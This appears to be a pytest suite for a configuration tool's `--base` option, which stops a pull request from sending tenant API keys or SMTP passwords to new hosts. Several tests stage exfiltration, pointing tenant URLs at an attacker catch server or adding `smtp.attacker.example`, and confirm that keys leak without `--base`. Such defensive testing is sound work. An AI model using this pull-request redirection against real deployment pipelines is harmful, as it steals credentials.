"""`--base`: a pull request is planned against the trusted base branch.

Each test commits the sandbox fleet's configuration as the base in a real git
repository, makes a pull request's change in the working tree (or on a
branch), and asserts on what the sandbox and an attacker's server received.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from catch_server import attacker as attacker

GIT = ["git", "-c", "user.name=Base", "-c", "user.email=base@example.invalid"]
NOT_READ = "url or credentials changed in this pull request; read after merge"


def git(repo: Path, *args: str) -> str:
    done = subprocess.run([*GIT, "-C", str(repo), *args], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture
def based(repo: Path) -> Path:
    """The sandbox config committed on `main` (the base); .secrets/ stays untracked."""
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    return repo


def edit(path: Path, **changes: object) -> None:
    data = yaml.safe_load(path.read_text())
    data.update(changes)
    path.write_text(yaml.safe_dump(data, sort_keys=False))


def tenant_file(repo: Path, name: str) -> Path:
    return repo / "tenants" / f"{name}.yaml"


def api_key_ref(repo: Path, name: str) -> str:
    return yaml.safe_load(tenant_file(repo, name).read_text())["auth"]["apiKey"]


def contacted(sandbox) -> set[str]:
    return {entry.tenant for entry in sandbox.request_log}


def plan_json(cli, repo: Path, *extra: str):
    result = cli("plan", str(repo), "--format", "json", *extra)
    return result, (json.loads(result.stdout) if result.stdout.startswith("{") else None)


def test_widened_allowed_hosts_send_nothing_to_the_new_host(sandbox, based, cli, attacker):
    edit(based / "qlik-email.yaml", settings={"allowedHosts": ["*"]})
    edit(tenant_file(based, "tenant-002"), url=attacker.url("localhost"))
    sandbox.reset_stats()
    result = cli("plan", str(based), "--base", "main")
    assert result.code == 1
    assert "tenants/tenant-002.yaml:2:6: host localhost is not an allowed tenant host" in (
        result.stderr
    )
    assert attacker.requests == [] and sandbox.request_log == []
    # The control: without --base the pull request's own list lets the key out.
    cli("plan", str(based))
    keys = [h.get("authorization") for _, _, h in attacker.requests]
    assert f"Bearer {sandbox.tenant('tenant-002').api_key}" in keys


def test_a_narrower_host_list_in_the_pull_request_is_kept(sandbox, based, cli):
    edit(based / "qlik-email.yaml", settings={"allowedHosts": ["127.0.0.1", "localhost"]})
    git(based, "commit", "-q", "-am", "two hosts")
    edit(based / "qlik-email.yaml", settings={"allowedHosts": ["localhost", "*.example"]})
    result = cli("validate", str(based), "--base", "main")
    assert result.code == 1
    assert "host 127.0.0.1 is not an allowed tenant host (localhost)" in result.stderr


def test_swapped_api_keys_reach_neither_tenant(sandbox, based, cli):
    one, two = tenant_file(based, "tenant-001"), tenant_file(based, "tenant-002")
    ref_one, ref_two = api_key_ref(based, "tenant-001"), api_key_ref(based, "tenant-002")
    edit(one, auth={"apiKey": ref_two})
    edit(two, auth={"apiKey": ref_one})
    sandbox.reset_stats()
    result, document = plan_json(cli, based, "--base", "main")
    assert result.code == 0, result
    assert contacted(sandbox) == {"tenant-003", "tenant-004"}
    assert document["summary"]["notRead"] == 2
    held = {t["name"]: t["notRead"] for t in document["tenants"] if t["notRead"]}
    assert held == {"tenant-001": NOT_READ, "tenant-002": NOT_READ}
    text = cli("plan", str(based), "--base", "main").stdout
    assert f"2 tenant(s) not read: {NOT_READ}." in text
    assert "tenant tenant-001 (" in text and "is not read" in text


def test_a_changed_url_and_an_added_tenant_are_not_contacted(sandbox, based, cli, attacker):
    # 127.0.0.1 is an allowed host: only the pairing with the base keeps the keys home.
    edit(tenant_file(based, "tenant-002"), url=attacker.url())
    added = yaml.safe_load(tenant_file(based, "tenant-001").read_text())
    added.update(name="added", url=attacker.url() + "/added")
    tenant_file(based, "added").write_text(yaml.safe_dump(added))
    sandbox.reset_stats()
    result, document = plan_json(cli, based, "--base", "main")
    assert result.code == 0, result
    assert attacker.requests == []
    assert contacted(sandbox) == {"tenant-001", "tenant-003", "tenant-004"}
    held = sorted(t["name"] for t in document["tenants"] if t["notRead"])
    assert held == ["added", "tenant-002"]
    added_plan = next(t for t in document["tenants"] if t["name"] == "added")
    assert added_plan["action"] == "no-op" and added_plan["changes"]  # its desired state
    markdown = cli("plan", str(based), "--base", "main", "--format", "markdown").stdout
    assert f"2 tenant(s) not read: {NOT_READ}." in markdown
    # The control: without --base the collector receives tenant-002's key.
    cli("plan", str(based))
    keys = [h.get("authorization") for _, _, h in attacker.requests]
    assert f"Bearer {sandbox.tenant('tenant-002').api_key}" in keys


def test_a_changed_secret_reference_is_shown_in_every_format(sandbox, based, cli):
    assert cli("apply", str(based), "--auto-approve").code == 0  # the base, applied
    three = tenant_file(based, "tenant-003")
    before = yaml.safe_load(three.read_text())["email"]["password"]
    after = api_key_ref(based, "tenant-001")
    text = three.read_text().replace(before, after)
    three.write_text(text)
    sent_to = f"127.0.0.1:{sandbox.smtp_ports['StartTLS']}"
    # Without --base, a moved reference is invisible: the API never returns secrets.
    assert "No changes." in cli("plan", str(based)).stdout
    result = cli("plan", str(based), "--base", "main")
    assert result.code == 0, result
    moved = f"reference changed: {before} -> {after}"
    line = f"~ password = (sensitive value) secret will be re-sent ({moved}), sent to {sent_to}"
    assert line in result.stdout
    assert "Plan: 0 to create, 1 to update, 0 to delete, 3 unchanged." in result.stdout
    _, document = plan_json(cli, based, "--base", "main")
    change = next(c for t in document["tenants"] if t["name"] == "tenant-003" for c in t["changes"])
    assert change == {
        "field": "password",
        "before": None,
        "after": None,
        "sensitive": True,
        "beforeRef": before,
        "afterRef": after,
        "sentTo": sent_to,
        "beforeRotation": None,
        "afterRotation": None,
        "comparedWith": "base",
    }
    markdown = cli("plan", str(based), "--base", "main", "--format", "markdown").stdout
    assert ":warning: 1 secret(s) will be re-sent:" in markdown
    assert line in markdown


def test_the_base_may_be_a_trusted_directory_and_the_pull_request_a_branch(
    sandbox, based, cli, tmp_path
):
    trusted = tmp_path / "trusted"
    shutil.copytree(based, trusted, ignore=shutil.ignore_patterns(".git", ".secrets"))
    git(based, "checkout", "-q", "-b", "pr")
    edit(tenant_file(based, "tenant-004"), url=sandbox.tenant("tenant-004").url + "/moved")
    git(based, "commit", "-q", "-am", "move tenant-004")
    for base in (("--base", "main"), ("--base-dir", str(trusted))):
        sandbox.reset_stats()
        _, document = plan_json(cli, based, *base)
        assert [t["name"] for t in document["tenants"] if t["notRead"]] == ["tenant-004"]
        assert "tenant-004" not in contacted(sandbox)
    # The pull request's own commit as the base vouches for the move.
    sandbox.reset_stats()
    _, document = plan_json(cli, based, "--base", "pr")
    assert document["summary"]["notRead"] == 0


def test_tenant_globs_are_listed_at_the_base_ref(sandbox, based, cli):
    # A tenant file the pull request adds under a new glob is not in the base.
    (based / "more").mkdir()
    shutil.move(tenant_file(based, "tenant-004"), based / "more" / "tenant-004.yaml")
    edit(based / "qlik-email.yaml", tenants=["tenants/*.yaml", "more/*.yaml"])
    sandbox.reset_stats()
    _, document = plan_json(cli, based, "--base", "main")
    assert document["summary"]["notRead"] == 0  # same url, same key: still vouched for
    assert contacted(sandbox) == {f"tenant-00{i}" for i in range(1, 5)}


def test_drift_under_base_skips_the_tenants_it_does_not_vouch_for(sandbox, based, cli, attacker):
    edit(tenant_file(based, "tenant-001"), url=attacker.url())
    sandbox.reset_stats()
    result = cli("drift", str(based), "--base", "main", "--format", "json")
    assert attacker.requests == []
    assert "tenant-001" not in contacted(sandbox)
    assert f"1 tenant(s) not read: {NOT_READ}." in result.stderr


def test_an_unknown_base_ref_is_an_error_that_contacts_nothing(sandbox, based, cli):
    sandbox.reset_stats()
    result = cli("plan", str(based), "--base", "no-such-branch")
    assert result.code == 1
    assert "--base" in result.stderr and "'no-such-branch' is not a commit" in result.stderr
    assert sandbox.request_log == []
    assert cli("plan", str(based), "--base", "--output=x").code == 1


def test_policy_comes_from_the_base(sandbox, based, cli):
    edit(
        based / "qlik-email.yaml",
        settings={"allowedHosts": ["127.0.0.1"], "policy": {"smtpHosts": ["127.0.0.1"]}},
    )
    git(based, "commit", "-q", "-am", "policy")
    # The pull request drops the policy and sends tenant-003's password elsewhere.
    edit(based / "qlik-email.yaml", settings={"allowedHosts": ["127.0.0.1"]})
    three = tenant_file(based, "tenant-003")
    three.write_text(three.read_text() + "  serverAddress: smtp.attacker.example\n")
    assert cli("validate", str(based)).code == 0
    result = cli("validate", str(based), "--base", "main")
    assert result.code == 1
    assert (
        "tenants/tenant-003.yaml:10:18: SMTP host smtp.attacker.example is not allowed "
        "by settings.policy.smtpHosts (127.0.0.1)"
    ) in result.stderr
